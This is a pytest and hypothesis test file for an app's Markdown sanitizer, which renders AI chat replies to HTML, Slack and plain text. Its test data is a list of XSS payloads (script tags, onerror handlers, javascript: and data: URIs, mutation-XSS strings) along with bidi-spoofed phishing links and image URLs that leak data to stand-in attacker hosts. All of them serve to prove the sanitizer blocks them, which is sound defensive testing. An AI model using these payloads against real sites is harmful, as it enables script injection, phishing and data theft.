"""The model's Markdown (app.markdown): what renders, and that nothing in it can run, load or
mislead. The HTML is read back with html.parser (as a browser would build elements), never with
a regex; the sanitizer is fuzzed with hypothesis on random Markdown and raw HTML."""

from __future__ import annotations

import os

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from app.copilot.hidden import HIDDEN
from app.markdown import Live, blocks_of, outbound, sanitize, to_html, to_mrkdwn, to_plain
from tests.helpers.markdown import Elements, Links

FUZZ = settings(
    max_examples=int(os.environ.get("COUNTERSIGN_FUZZ_EXAMPLES", "300")),
    deadline=None,
    database=None,
    suppress_health_check=list(HealthCheck),
)


def parsed(markdown: str) -> Elements:
    return Elements(to_html(markdown))


# --- What renders -----------------------------------------------------------------------------------


def test_lists_render_as_lists():
    page = parsed("Steps:\n\n- one\n- two\n  1. nested\n  2. more\n")
    assert [t for t, _ in page.tags] == ["p", "ul", "li", "li", "ol", "li", "li"]


def test_an_ordered_list_keeps_its_start():
    assert parsed("3. three\n4. four").named("ol") == [{"start": "3"}]


def test_emphasis_and_inline_code_render():
    page = parsed("**bold** *em* ~~gone~~ `x < y`")
    assert [t for t, _ in page.tags] == ["p", "strong", "em", "s", "code"]
    assert "x < y" in page.words


def test_a_code_block_keeps_its_whitespace_and_gets_a_copy_button():
    code = 'def f():\n    return "<b>"\n\n\n    # indented\n'
    page = parsed(f"```python\n{code}```")
    assert page.named("button") == [{"type": "button", "class": "code-copy"}]
    assert page.named("code") == [{"class": "language-python"}]
    html = to_html(f"```python\n{code}```")
    start = html.index("<code")
    inner = Elements(html[start : html.index("</code>") + 7]).words
    assert inner == code  # every space and blank line, and the <b> as text


def test_a_fence_info_string_cannot_add_a_class_or_attribute():
    page = parsed('```x"onclick="alert(1) y\ncode\n```')
    assert page.named("code") == [{"class": "language-xonclickalert1"}]


def test_tables_render_with_alignment_as_classes_not_styles():
    page = parsed("| a | b |\n|:--|--:|\n| 1 | **2** |")
    assert [t for t, _ in page.tags][:4] == ["table", "thead", "tr", "th"]
    cells = page.named("th") + page.named("td")
    assert [c.get("class") for c in cells] == ["align-left", "align-right", "align-left", "align-right"]
    assert not any("style" in attrs for _, attrs in page.tags)


def test_headings_sit_under_the_chats_own_title():
    page = parsed("# Big\n\n## Smaller\n\n###### Smallest")
    assert [t for t, _ in page.tags] == ["h2", "h3", "h6"]
    assert all(attrs == {"class": "md-heading"} for _, attrs in page.tags)


def test_raw_html_is_shown_as_text():
    page = parsed('<script>alert(1)</script> <img src="http://x/leak"> <b onclick="x()">hi</b>')
    assert [t for t, _ in page.tags] == ["p"]
    assert '<script>alert(1)</script> <img src="http://x/leak"> <b onclick="x()">hi</b>' in page.words


# --- Links and images -------------------------------------------------------------------------------


def test_a_link_shows_its_real_host_and_opens_safely():
    page = parsed("Read [docs.python.org](https://evil.example/phish?q=1).")
    [link] = page.named("a")
    assert link == {
        "href": "https://evil.example/phish?q=1",
        "target": "_blank",
        "rel": "noopener noreferrer nofollow",
    }
    assert "docs.python.org (evil.example)" in page.words


def test_a_link_with_user_info_shows_the_host_it_goes_to():
    page = parsed("[x](https://good.example@evil.example/)")
    assert page.named("a")[0]["href"] == "https://evil.example/"
    assert "(evil.example)" in page.words and "good.example" not in to_html("[x](https://good.example@evil.example/)")


def test_a_lookalike_host_is_shown_as_punycode():
    page = parsed("[google](https://gооgle.com/)")  # Cyrillic o's
    assert page.named("a")[0]["href"] == "https://xn--ggle-55da.com/"
    assert "(xn--ggle-55da.com)" in page.words


@pytest.mark.parametrize("markdown", ["[x](http://¸)", "<http://¸>", "[x](http://xn--vba/)", "[x](https://a.xn--a/)"])
def test_a_host_whose_punycode_is_no_idna_label_is_no_link_anywhere(markdown):
    """markdown-it writes `http://¸` as `http://xn--vba`, which the sanitizer's URL parser refuses
    and strips from the href: the host must not be shown beside a link that goes nowhere."""
    page = Elements(to_html(markdown))
    assert page.named("a") == [] and "link-host" not in to_html(markdown)
    assert "<http" not in to_mrkdwn(markdown)  # no Slack link either
    assert outbound("http://xn--vba") is None


def each_link_names_its_host(html: str) -> None:
    """Every link is alone (none inside another) and says where it goes: an image's link in its
    own words, a link whose text is not its URL by the host label that follows it."""
    for link in Links(html).links:
        attrs, text = link["attrs"], str(link["text"])
        target = outbound(attrs.get("href") or "")
        assert not link["nested"] and target is not None and target.href == attrs["href"], (html, link)
        if attrs.get("class") == "image-link":
            assert text == f"image: {target.host}", (html, link)
        elif text != target.href:
            assert link["label"] == f"({target.host})", (html, link)


NESTED = [
    "[docs.python.org<ab:>](http://evil.example)\n\nSee https://docs.python.org/3/ for more.\n\n- a\n\n| t |\n|---|\n| c |",
    "[docs.python.org<javascript:x>](http://evil.example)",
    "[docs<https://docs.python.org:99999/3/>](http://evil.example)",
    "[https://docs.python.org/ <https://docs.python.org/>](https://evil.example/)",
    "[<ab:>][r]\n\nmore words\n\n[r]: https://evil.example/",
    "[![x](http://evil.example/)](http://good.example/)",
    "[click ![x](http://evil.example/) here](http://good.example/)",
]


@pytest.mark.parametrize("markdown", NESTED)
def test_a_link_or_image_in_a_links_text_is_its_words_and_the_link_still_names_its_host(markdown):
    """markdown-it lets an autolink or an image sit in a link's text. Rendered as links, the HTML
    parser split the outer one (no host label), or left it open over the rest of the reply (a
    security review's find): inside a link, they are words; the link names its host; what follows
    is no link; and Slack and plain text say the same."""
    html = to_html(markdown)
    each_link_names_its_host(html)
    page = Links(html)
    outer = [link for link in page.links if link["attrs"].get("class") != "image-link"]
    assert len(outer) == 1 and outer[0]["label"] in ("(evil.example)", "(good.example)"), html
    assert "more" not in str(outer[0]["text"]) and "See" not in str(outer[0]["text"]), html
    for chat in (to_mrkdwn(markdown), to_plain(markdown)):
        assert chat.count("evil.example/|") + chat.count("good.example/|") <= 1 and "|<" not in chat, chat
        assert "(evil.example" in chat or "(good.example" in chat or "(http" in chat, chat


@pytest.mark.parametrize(
    "markdown",
    [
        "Sign in at [PayPal&#x202E;](https://moc.lapyap.io/)&#x202C; to confirm.",
        "Sign in at [PayPal&#8238;](https://moc.lapyap.io/) to confirm.",
        "<https://x.example/%E2%80%AE>",
        "<ab:%E2%80%AE>",
        "[good <http://a.example/%E2%80%AE>](http://e.example/)",
        "# a &#x2067; heading\n\n| cell &#x200B; |\n|---|\n| &#xFEFF;&#xE0041; |",
    ],
)
def test_a_hidden_character_written_as_a_reference_or_an_escape_is_shown_too(markdown):
    """shown() ran on the source, before the parser decoded `&#x202E;` (and an autolink's
    `%E2%80%AE`) into the bidi override itself: a security review's find, where Chromium read
    "PayPal(oi.paypal.com)" for a link to moc.lapyap.io. Every rendering shows it as ⟨U+…⟩."""
    for rendered in (to_html(markdown), to_mrkdwn(markdown), to_plain(markdown)):
        assert not HIDDEN.search(rendered), ascii(rendered)
    assert "⟨U+" in to_html(markdown)


def test_a_line_break_in_a_quoted_links_text_stays_out_of_slacks_link():
    assert to_mrkdwn("> [a\nb](http://evil.example/) after") == "> <http://evil.example/|a b> (evil.example) after"


def test_a_mailto_whose_address_is_percent_encoded_is_no_link():
    """A mail client decodes %40 and %2C: `attacker%40evil.example%2Csupport@good.example` writes to
    two people while the label reads as one at good.example."""
    markdown = "[Email support](mailto:attacker%40evil.example%2Csupport@good.example)"
    assert Links(to_html(markdown)).links == [] and "mailto" not in to_mrkdwn(markdown) + to_plain(markdown)
    assert outbound("mailto:someone@example.com") is not None


def test_a_port_is_part_of_the_host_shown():
    assert "(127.0.0.1:8123)" in parsed("[a](http://127.0.0.1:8123/x)").words


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "ftp://example.com/x",
        "/admin",
        "//evil.example/x",
        "http://%65vil.example/",
        "http://evil.example:99999/",
        "http://[::1/",
    ],
)
def test_any_other_link_keeps_its_text_and_is_no_link(href):
    page = parsed(f"[click me]({href})")
    assert page.named("a") == []
    assert "click me" in page.words


def test_a_mailto_link_stays_a_link_naming_the_address():
    page = parsed("[write](mailto:someone@example.com)")
    assert page.named("a")[0]["href"] == "mailto:someone@example.com"
    assert "write (someone@example.com)" in page.words


def test_an_image_is_a_link_labelled_with_its_host_never_an_img():
    page = parsed("![a cute cat](https://attacker.example/x.png?q=secret)")
    assert page.named("img") == []
    [link] = page.named("a")
    assert link["href"] == "https://attacker.example/x.png?q=secret" and link["rel"] == "noopener noreferrer nofollow"
    assert page.words.strip() == "image: attacker.example"


@pytest.mark.parametrize("src", ["data:image/png;base64,AAAA", "javascript:alert(1)", "/static/x.png", "mailto:a@b.c"])
def test_an_image_from_anywhere_else_is_not_even_a_link(src):
    page = parsed(f"![x]({src})")
    assert page.named("img") == [] and page.named("a") == []
    assert page.words.strip() == "image (not shown)"


def test_a_link_inside_a_partial_text_is_text_until_it_closes():
    """Mid-stream, half a link is its words; the page never holds half a tag."""
    assert parsed("see [docs](https://evil.exa").named("a") == []
    assert parsed("see [docs](https://evil.example)").named("a") != []
    assert Elements(to_html("```python\nprint(1)")).named("code") == [{"class": "language-python"}]


def test_outbound_rebuilds_the_url_it_shows():
    target = outbound("HTTPS://User:Pw@Example.COM:8443/a%20b?q=1#f")
    assert target is not None
    assert (target.href, target.host) == ("https://example.com:8443/a%20b?q=1#f", "example.com:8443")


# --- The sanitizer, fuzzed -------------------------------------------------------------------------

NASTY = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<iframe src=//evil.example>",
    '<div style="background:url(//evil.example)">',
    '<button formaction="javascript:alert(1)" type="submit">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<a href=' javascript:alert(1)'>",
    '<a href="jav&#x09;ascript:alert(1)">',
    "<object data=//evil.example>",
    "<video><source onerror=alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=x>",
    "![x](http://127.0.0.1:1/leak)",
    "[x](javascript:alert(1))",
    "[x](data:text/html,hi)",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[y][x]",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x> |",
    "*",
    "_",
    "`",
    "[",
    "](",
    "![",
    "\n",
    " ",
    "\x00",
    "&#0;",
    "&lt;",
    "<",
    ">",
    '"',
    "'",
    "on",
    "error=",
    "http://",
    "data:",
    "<ab:>",
    "<https://docs.python.org/>",
    "](http://evil.example)",
    "![x](http://evil.example/)",
    "[r]: https://evil.example/\n\n",
    "[r]",
    "&#x202E;",
    "%E2%80%AE",
    "&#x200B;",
]
ANYTHING = st.lists(st.one_of(st.sampled_from(NASTY), st.text(max_size=20)), max_size=12).map("".join)


def check_safe(html: str) -> None:
    for tag, attrs in Elements(html).tags:
        assert tag not in ("script", "style", "img", "iframe", "object", "embed", "svg", "math", "form", "base", "link"), html
        assert "src" not in attrs and "style" not in attrs and "srcset" not in attrs, html
        assert not any(name.startswith("on") for name in attrs), html
        href = (attrs.get("href") or "").strip().lower()
        if href:
            assert href.startswith(("http://", "https://", "mailto:")), html
            assert tag == "a" and attrs.get("rel") == "noopener noreferrer nofollow" and attrs.get("target") == "_blank", html
        if tag == "button":
            assert attrs.get("type") == "button" and set(attrs) <= {"type", "class"}, html


@FUZZ
@given(ANYTHING)
@example('<a href="javascript:alert(1)" onclick="x">x</a><img src=//evil.example/leak>')
def test_rendered_markdown_never_holds_a_script_a_handler_or_a_src(markdown):
    check_safe(to_html(markdown))
    for rendered in (to_html(markdown), to_mrkdwn(markdown), to_plain(markdown)):
        assert not HIDDEN.search(rendered), ascii(rendered)  # (decoded references and escapes are shown too)


@FUZZ
@given(ANYTHING)
def test_the_sanitizer_alone_lets_no_script_handler_or_src_through_raw_html(html):
    check_safe(sanitize(html))


@FUZZ
@given(ANYTHING)
@example("[](http://¸)")  # (found by a wider fuzz: an <a> stripped of its href, its host still shown)
@example("[docs.python.org<ab:>](http://evil.example)\n\nmore")  # (a security review's: an autolink in a link's text)
def test_every_link_the_page_shows_names_its_real_host(markdown):
    html = to_html(markdown)
    page = Elements(html)
    for attrs in page.named("a"):
        target = outbound(attrs["href"] or "")
        assert target is not None and target.href == attrs["href"]
    if page.named("a"):
        assert any(target.host in page.words for attrs in page.named("a") if (target := outbound(attrs["href"] or "")))
    each_link_names_its_host(html)


# --- Chat platforms ---------------------------------------------------------------------------------


def test_slack_gets_mrkdwn_with_mentions_escaped():
    said = to_mrkdwn("Hi <!channel> and <@U123>, see <https://evil|https://good> & **this**")
    assert said == "Hi &lt;!channel&gt; and &lt;@U123&gt;, see &lt;https://evil|https://good&gt; &amp; *this*"


def test_slack_links_are_http_only_with_the_text_escaped_and_the_host_after():
    said = to_mrkdwn("[<!here> good.com](https://evil.example/a|b) [js](javascript:alert(1)) ![i](http://127.0.0.1:9/leak)")
    assert said == (
        "<https://evil.example/a%7Cb|&lt;!here&gt; good.com> (evil.example) js <http://127.0.0.1:9/leak|image: 127.0.0.1:9>"
    )


def test_slack_lists_code_and_headings():
    said = to_mrkdwn("# Plan\n\n- one\n- two\n\n```\nx <y>\n```")
    assert said == "*Plan*\n\n• one\n• two\n\n```\nx &lt;y&gt;\n```"


def test_plain_text_keeps_every_url_in_full_and_no_markup():
    said = to_plain("**Note**: [docs.python.org](https://evil.example/p) ![x](http://127.0.0.1:9/leak)\n\n1. a\n2. b")
    assert said == ("Note: docs.python.org (https://evil.example/p) image: 127.0.0.1:9 (http://127.0.0.1:9/leak)\n\n1. a\n2. b")


# --- While it streams -------------------------------------------------------------------------------


def test_a_streamed_reply_is_cut_at_blank_lines_outside_code():
    assert blocks_of("a\n\n```\nx\n\ny\n```\n\n- b\n- c") == ["a", "```\nx\n\ny\n```", "- b\n- c"]


def test_while_it_streams_each_update_is_the_whole_reply_rendered_and_safe():
    live, text = Live(), ""
    for piece in [
        "- one\n- t",
        "wo\n\n```py\nx = '<b>'\n",
        "```\n\n[docs](https://evil.exa",
        "mple/x) ![i](http://127.0.0.1:1/leak)",
    ]:
        text += piece
        html = live.html(text)
        assert html is not None
        check_safe(html)
    page = Elements(html)
    assert len(page.named("li")) == 2 and page.named("img") == []
    assert "x = '<b>'" in page.words and "docs (evil.example)" in page.words and "image: 127.0.0.1:1" in page.words


def test_a_long_last_paragraph_is_rendered_again_only_once_it_has_grown_a_quarter():
    live = Live()
    assert live.html("word " * 500) is not None  # 2500 characters: rendered
    assert live.html("word " * 510) is None  # a little more: not yet
    assert live.html("word " * 630) is not None  # a quarter more: rendered
    assert live.html("word " * 630 + "\n\nnext") is not None  # a new paragraph shows at once


@pytest.mark.parametrize("host", ["2130706433", "0x7f.0.0.1", "127.1", "0177.0.0.1", "0x7f000001", "127.0.0.1."])
def test_a_numeric_host_is_shown_and_linked_as_the_address_the_browser_goes_to(host):
    """Red team (2026-12-01): "(2130706433)" did not say the link goes to 127.0.0.1."""
    html = to_html(f"[docs.python.org](http://{host}/x)")
    assert 'href="http://127.0.0.1/x"' in html and '<span class="link-host">(127.0.0.1)</span>' in html


@pytest.mark.parametrize("host", ["1.2.3.256", "09.1.1.1", "1.2.3.4.5", "256.1"])
def test_a_number_no_browser_takes_for_an_address_is_no_link(host):
    html = to_html(f"[docs](http://{host}/)")
    assert "<a" not in html and "docs" in html


def test_names_that_end_in_letters_are_names():
    assert outbound("http://1e100.net/").host == "1e100.net"
